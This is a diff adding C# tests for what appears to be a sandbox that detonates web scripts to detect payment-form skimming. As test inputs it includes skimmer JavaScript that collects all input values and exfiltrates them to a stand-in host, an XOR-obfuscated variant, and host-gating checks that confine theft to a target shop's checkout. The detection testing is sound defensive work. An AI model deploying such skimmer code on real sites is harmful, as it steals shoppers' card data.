@@ -56,6 +56,70 @@ public sealed class DetonatorTests : IAsyncDisposable
         Assert.Empty(DetonationEvidence.OpinionOf(report, script).Findings);
     }
 
+    private const string Count = "(function (w, d) { var m = {}; ['focusin', 'focusout', 'keydown', 'change'].forEach(function (t) { d.addEventListener(t, function (e) { var f = e.target; if (!f || !f.name) return; var r = m[f.name] || (m[f.name] = { keys: 0, ms: 0, len: 0 }); if (t === 'keydown') r.keys++; if (t === 'change') r.len = f.value.length; }, true); }); setInterval(function () { SEND }, 2000); })(window, document);";
+
+    [Theory]
+    [InlineData("navigator.sendBeacon('https://in.form-numbers.test/v2', JSON.stringify({ u: location.pathname, m: m }))")]
+    [InlineData("fetch('https://in.form-numbers.test/v2', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ ua: navigator.userAgent, m: m })) })")]
+    [InlineData("new Image().src = 'https://in.form-numbers.test/p?m=' + encodeURIComponent(JSON.stringify(m))")]
+    [InlineData("navigator.sendBeacon('https://in.form-numbers.test/r', JSON.stringify({ events: [].map.call(d.querySelectorAll('input'), function (i) { return { name: i.name, text: i.value.replace(/./g, '*') } }) }))")]
+    public async Task Counts_and_masked_values_of_card_fields_are_no_theft(string send)
+    {
+        var script = new ScriptToJudge { Source = Count.Replace("SEND", send, StringComparison.Ordinal) };
+
+        var report = await _detonator.DetonateAsync(script, Now);
+
+        Assert.Contains(report.Requests, static request => request.Host == "in.form-numbers.test");
+        Assert.Contains(report.Reads, static read => read.Purpose == "cc-number");
+        Assert.DoesNotContain(DetonationEvidence.OpinionOf(report, script).Findings, static finding => finding.Weight > 0);
+    }
+
+    [Fact]
+    public async Task Encrypted_fields_are_seen_to_leave()
+    {
+        const string Source = """
+            document.addEventListener('change', function () { var t = ''; document.querySelectorAll('input').forEach(function (f) { t += f.name + '=' + f.value + ';' });
+            var o = '', k = 90; for (var i = 0; i < t.length; i++) { k = (k * 75 + 74) % 65537; o += String.fromCharCode(t.charCodeAt(i) ^ (k & 255)) } navigator.sendBeacon('https://drop-box-9.test/b', btoa(o)); }, true);
+            """;
+        var script = new ScriptToJudge { Source = Source };
+
+        var report = await _detonator.DetonateAsync(script, Now);
+
+        Assert.Contains(DetonationEvidence.OpinionOf(report, script).Findings, static finding => finding is { Rule: "detonation-sealed-payload", Weight: >= 5.2 });
+    }
+
+    private const string Theft = "document.addEventListener('change', function () { var o = ''; document.querySelectorAll('input').forEach(function (f) { o += f.value + '|' }); new Image().src = 'https://drop-box-9.test/p.gif?d=' + btoa(o) }, true);";
+
+    [Theory]
+    [InlineData("if (location.host.indexOf('tea-shop.test') < 0) return;")]
+    [InlineData("if (location.hostname !== 'tea-shop.test') return;")]
+    [InlineData("if (!/(^|\\.)tea-shop\\.test$/.test(location.hostname)) return;")]
+    [InlineData("if (!location.href.match('tea-shop')) return;")]
+    [InlineData("if (document.domain != atob('dGVhLXNob3AudGVzdA==')) return;")]
+    [InlineData("if (!location.hostname.endsWith('.tea-shop.test')) return;")]
+    [InlineData("if (location.pathname.indexOf('/kasse/') < 0) return;")]
+    public async Task A_script_that_asks_for_a_place_is_run_there(string gate)
+    {
+        var script = new ScriptToJudge { Source = $"(function () {{ {gate} {Theft} }})();" };
+
+        var report = await _detonator.DetonateAsync(script, Now);
+
+        Assert.Contains(report.Requests, static request => request is { Canary: "cc-number", Host: "drop-box-9.test" });
+    }
+
+    [Theory]
+    [InlineData("if (location.host === 'tea-shop.test') return;", false)]
+    [InlineData("if (location.host.length !== 211) return;", true)]
+    public async Task What_ran_nowhere_is_told(string gate, bool neverRan)
+    {
+        var source = $"(function () {{ {gate} window.tea = 1; window.cups = [1, 2, 3].map(function (n) {{ return n * 2; }}); }})();";
+
+        var report = await _detonator.DetonateAsync(new ScriptToJudge { Source = source }, Now);
+
+        Assert.Null(report.Incomplete);
+        Assert.Equal(neverRan, report.NeverRan(source.IndexOf("window.tea", StringComparison.Ordinal)));
+    }
+
     [Fact]
     public async Task Nothing_reaches_the_machine_that_it_runs_on()
     {
